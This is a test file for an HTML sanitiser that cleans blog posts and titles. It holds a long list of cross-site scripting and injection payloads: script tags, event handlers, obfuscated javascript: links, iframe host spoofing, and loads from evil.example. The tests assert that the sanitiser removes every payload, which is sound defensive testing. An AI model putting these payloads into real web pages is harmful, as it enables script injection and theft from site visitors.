import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import {
  isPostLink,
  isPostMedia,
  POST_ATTRIBUTES,
  POST_CLASS,
  POST_ID_PREFIX,
  POST_TAGS,
  toVideo,
} from '#contract/postHtml.ts';
import { SAMPLE_BLOCKS } from '#server/testing/sampleBlocks.ts';
import { sanitisePost, sanitiseText } from './sanitise.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)" onerror=alert(1)>',
  '<img/src=/a.png/onerror=alert(1)>',
  '<img src="/a.png" o\u0000nerror="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/a.png">',
  '<img src="/\\evil.example/a.png">',
  '<img src="http://evil.example/a.png">',
  '<img srcset="javascript:alert(1) 1x" src="/a.png">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="blob:https://example.org/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/a" target="_blank" onclick="alert(1)" ping="https://evil.example">a</a>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="position:fixed;inset:0">a</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/a"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/a"></iframe>',
  '<iframe src="https://user:pw@www.youtube.com/embed/a"></iframe>',
  '<iframe src="http://www.youtube.com/embed/a"></iframe>',
  '<iframe src="https://www.youtube.com:8443/embed/a"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="//www.youtube.com/embed/a"></iframe>',
  '<iframe src="https://www.youtube.com/embed/a" onload="alert(1)" srcdoc="<script>alert(1)</script>" allow="camera"></iframe>',
  '<iframe src="https://www.youtube.com/embed/a"><script>alert(1)</script></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name="a"><button formaction="javascript:alert(1)">a</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>a</p><?php system("id") ?>',
  '<video src="https://evil.example/a.mp4" onerror="alert(1)"><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<body onload=alert(1)><p>a</p></body>',
  '<h2 id="location">a</h2>',
  '<h2 id="x"><a id="document" name="cookie">a</a></h2>',
  '<p class="site-header modal-open">a</p>',
  '<blockquote cite="javascript:alert(1)">a</blockquote>',
  '<table background="javascript:alert(1)"><tr><td style="x:expression(alert(1))">a</td></tr></table>',
  '<p title="--><script>alert(1)</script>">a</p>',
  '<a title="&quot;><img src=x onerror=alert(1)>" href="/a">a</a>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="/a.png">',
  '<p is="x-evil" contenteditable tabindex=1 accesskey=x data-x="1" slot="a" part="b">a</p>',
  `${'<div>'.repeat(2000)}<img src=x onerror=alert(1)>`,
  '<p>unfinished <img src="/a.png" onerror="alert(1)',
];

function parse(html: string) {
  const { document } = new Window();
  document.body.innerHTML = html;
  return document.body;
}

describe('the HTML of a post', () => {
  it.each(HOSTILE.map((html) => [html.slice(0, 90), html]))(
    'keeps nothing that runs, loads or leads astray of %j [SEC-04]',
    (_name, html) => {
      const clean = sanitisePost(html);
      const body = parse(clean);

      expect(clean).not.toMatch(
        /<(script|style|svg|math|form|object|embed|template|noscript|xmp|textarea|base|meta|link|source)/i,
      );
      for (const element of body.querySelectorAll('*')) {
        const tag = element.tagName.toLowerCase();
        expect(POST_TAGS).toContain(tag);
        for (const name of element.getAttributeNames()) {
          const value = element.getAttribute(name) ?? '';
          expect([...(POST_ATTRIBUTES['*'] ?? []), ...(POST_ATTRIBUTES[tag] ?? [])]).toContain(name);
          if (name === 'href') expect(isPostLink(value)).toBe(true);
          if (name === 'src')
            expect(tag === 'iframe' ? toVideo(value)?.frame === value : isPostMedia(value)).toBe(true);
          if (name === 'id') expect(value.startsWith(POST_ID_PREFIX)).toBe(true);
          if (name === 'class') for (const one of value.split(' ')) expect(one).toMatch(POST_CLASS);
        }
      }
    },
  );

  it.each(HOSTILE.map((html) => [html.slice(0, 90), html]))(
    'does not change when it is sanitised again: %j [SEC-04]',
    (_name, html) => {
      const once = sanitisePost(html);
      expect(sanitisePost(once)).toBe(once);
    },
  );

  it('keeps paragraphs, lists, tables, figures and quotes as they are [SEC-04]', () => {
    const good =
      '<p>Uno <strong>dos</strong> <em>tres</em><br />cuatro</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol>' +
      '<table><caption>c</caption><thead><tr><th scope="col">d</th></tr></thead><tbody><tr><td colspan="2">e</td></tr></tbody></table>' +
      '<blockquote class="wp-block-quote is-style-large"><p>f</p><cite>g</cite></blockquote><hr /><pre><code>h</code></pre>';
    expect(sanitisePost(good)).toBe(good);
  });

  it('keeps a picture with its size and words, loaded late [SEC-04]', () => {
    const html =
      '<figure class="wp-block-image alignwide"><img src="/a.png" alt="Dos «niñas»" width="600" height="400"><figcaption>c</figcaption></figure>';
    const image = parse(sanitisePost(html)).querySelector('figure.alignwide img');
    expect(image?.getAttribute('src')).toBe('/a.png');
    expect(image?.getAttribute('alt')).toBe('Dos «niñas»');
    expect(image?.getAttribute('width')).toBe('600');
    expect(image?.getAttribute('loading')).toBe('lazy');
  });

  it('asks for more of a picture that goes beyond the column', () => {
    const src = '/imagenes/x.y/800.webp';
    const sizes = (figure: string) =>
      parse(sanitisePost(`<figure class="${figure}"><img src="${src}" width="2000" height="900"></figure>`))
        .querySelector('img')
        ?.getAttribute('sizes');
    expect(sizes('wp-block-image')).toMatch(/44rem/);
    expect(sizes('wp-block-image alignfull')).toBe(sizes('alignwide wp-block-image'));
    expect(sizes('wp-block-image alignfull')).not.toBe(sizes('wp-block-image'));
  });

  it('gives a picture of ours its widths, one of a stated width alone, and no other srcset [SEC-04]', () => {
    const at = (html: string) => parse(sanitisePost(html)).querySelector('img')?.getAttribute('srcset');
    const src = '/imagenes/abc.def-_9/800.webp';
    const widths = (...all: number[]) => all.map((one) => `/imagenes/abc.def-_9/${one}.webp ${one}w`).join(', ');
    expect(at(`<img src="${src}" width="1024" height="768">`)).toBe(widths(400, 800, 1600));
    expect(at(`<img src="${src}" width="300" height="200">`)).toBe(widths(400, 800));
    expect(at(`<img src="${src}" width="150" height="150">`)).toBeNull();
    expect(at(`<img src="${src}" srcset="https://evil.example/a.jpg 1x">`)).toBeNull();
    expect(at('<img src="/a.png" width="1024" height="768" srcset="/imagenes/x.y/9999.webp 9999w">')).toBeNull();
    const once = sanitisePost(`<img src="${src}" width="1024" height="768">`);
    expect(sanitisePost(once)).toBe(once);
  });

  it.each([
    ['https://www.youtube-nocookie.com/embed/abc_DEF-123', 'https://www.youtube-nocookie.com/embed/abc_DEF-123'],
    [
      'https://www.youtube.com/embed/abc_DEF-123?start=10&autoplay=1',
      'https://www.youtube-nocookie.com/embed/abc_DEF-123?start=10',
    ],
    ['//youtube.com/embed/abc', 'https://www.youtube-nocookie.com/embed/abc'],
    ['https://www.youtube.com/watch?v=abc&t=30s', 'https://www.youtube-nocookie.com/embed/abc?start=30'],
    [
      'https://www.youtube.com/embed/videoseries?list=PL1',
      'https://www.youtube-nocookie.com/embed/videoseries?list=PL1',
    ],
    ['https://player.vimeo.com/video/12345?h=abc', 'https://player.vimeo.com/video/12345?h=abc&dnt=1'],
  ])('keeps the video %s in a frame that may do little and sets no cookie [SEC-04]', (src, kept) => {
    const frame = parse(
      sanitisePost(`<iframe width="560" height="315" src="${src}" allow="camera"></iframe>`),
    ).querySelector('iframe');
    expect(frame?.getAttribute('src')).toBe(kept);
    expect(frame?.getAttribute('title')).toBe('Video');
    expect(frame?.getAttribute('loading')).toBe('lazy');
    expect(frame?.hasAttribute('allowfullscreen')).toBe(true);
    expect(frame?.getAttribute('sandbox')).not.toContain('allow-top-navigation');
    expect(frame?.getAttribute('referrerpolicy')).toBe('strict-origin-when-cross-origin');
    expect(frame?.hasAttribute('allow')).toBe(false);
  });

  it('marks links to other sites and leaves those within alone [SEC-04]', () => {
    const clean = sanitisePost(
      '<a href="https://example.org/a?b=1&amp;c=2" target="_blank">x</a> <a href="/es/noticias/">y</a> <a href="mailto:a@example.org">z</a>',
    );
    expect(clean).toBe(
      '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener">x</a> <a href="/es/noticias/">y</a> <a href="mailto:a@example.org">z</a>',
    );
  });

  it('gives the ids of headings a prefix and lets links within the post follow [SEC-04]', () => {
    expect(sanitisePost('<a href="#Uno">a</a><h1 id="Uno">b</h1>')).toBe(
      '<a href="#post-uno">a</a><h2 id="post-uno">b</h2>',
    );
  });

  it.each(Object.entries(SAMPLE_BLOCKS))(
    'keeps the blocks of %s as they are when it sees them again',
    (_name, html) => {
      const once = sanitisePost(html);
      expect(once.length).toBeGreaterThan(100);
      expect(sanitisePost(once)).toBe(once);
      expect(once).not.toMatch(/<(script|style|object|svg|button)|style=|data-|autoplay| on\w+=/);
    },
  );

  it('says by class what a block said by inline style', () => {
    const body = parse(sanitisePost(Object.values(SAMPLE_BLOCKS).join('')));
    const bases = [...body.querySelectorAll('[class*="is-basis-"]')].map(({ className }) => className.slice(-2));
    expect(bases).toEqual(['66', '33']);
    expect([...body.querySelectorAll('mark')].map(({ className }) => className.includes('is-highlighted'))).toEqual([
      false,
      true,
    ]);
    const resized = body.querySelector('.alignleft img');
    expect([resized?.getAttribute('width'), resized?.getAttribute('height')]).toEqual(['240', '126']);
    expect(body.querySelector('ol[type=I]')).not.toBeNull();
  });

  it('keeps films and sounds of its own site, stopped and with controls [SEC-04]', () => {
    const body = parse(sanitisePost(SAMPLE_BLOCKS['players'] ?? ''));
    const players = [...body.querySelectorAll('audio, video')];
    expect(players.map((player) => player.getAttribute('src'))).toEqual(['/films/ejemplo.mp3', '/films/ejemplo.mp4']);
    for (const player of players) {
      expect([player.hasAttribute('controls'), player.getAttribute('preload')]).toEqual([true, 'none']);
    }
    expect(body.querySelector('video track')?.getAttribute('srclang')).toBe('es');
  });

  it('leaves a plain link where a film, a sound or a frame of another site stood [SEC-04]', () => {
    const links = (name: string) =>
      [
        ...parse(sanitisePost(SAMPLE_BLOCKS[name] ?? '')).querySelectorAll(
          'figure > a, .wp-block-embed__wrapper > a, div > a',
        ),
      ].map((link) => [link.getAttribute('href'), link.textContent]);
    expect(links('players')).toEqual([
      ['https://otro.example/podcast.mp3', 'podcast.mp3'],
      ['https://otro.example/clasica.mp4', 'https://otro.example/clasica.mp4'],
    ]);
    expect(links('embeds')).toEqual([
      ['https://open.spotify.com/embed/episode/abc?utm_source=oembed', 'Spotify Embed: Un podcast'],
    ]);
  });

  it('leads notes and their references to each other, and drops lines that hold nothing', () => {
    const notes = parse(sanitisePost(SAMPLE_BLOCKS['footnotes'] ?? ''));
    for (const link of notes.querySelectorAll('a')) {
      expect(notes.querySelector(link.getAttribute('href') ?? '')).not.toBeNull();
    }
    expect(notes.querySelectorAll('a')).toHaveLength(2);
    expect(sanitisePost('<p>&nbsp;</p><p><span id="more-12"></span></p><p> <br></p><p>a</p>')).toBe('<p>a</p>');
  });

  it('says the side of a table cell by class', () => {
    expect(sanitisePost('<table><tbody><tr><td align="right">1</td></tr></tbody></table>')).toContain(
      '<td class="has-text-align-right">1</td>',
    );
  });
});

describe('a title from elsewhere', () => {
  it('is text with entities only [SEC-04]', () => {
    expect(sanitiseText('<b>Niñas</b> &#038; niños<script>alert(1)</script> &lt;img onerror=x&gt; &#8217;')).toBe(
      'Niñas &amp; niños &lt;img onerror=x&gt; ’',
    );
  });
});
